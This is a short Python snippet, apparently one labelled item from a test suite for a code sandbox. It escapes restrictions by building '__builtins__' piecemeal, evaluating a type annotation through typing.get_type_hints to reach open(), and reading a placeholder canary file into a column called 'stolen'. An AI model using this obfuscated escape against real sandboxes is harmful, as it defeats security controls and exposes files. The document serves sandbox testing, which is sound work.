# class: module_reach
# technique: the builtins namespace taken from inside a get_type_hints evaluation (globals() there is the snippet's, with __builtins__), then open() by subscript
# goal: read
import typing

import pandas as pd

found = []
key = "_" * 2 + "builtins" + "_" * 2


def cell(x: "[found.append(globals()[key]), int][-1]"):
    return x


typing.get_type_hints(cell)
b = found[0]
reader = b["open"] if isinstance(b, dict) else b.open
df = pd.DataFrame({"stolen": [reader("{{CANARY_FILE}}").read()]})
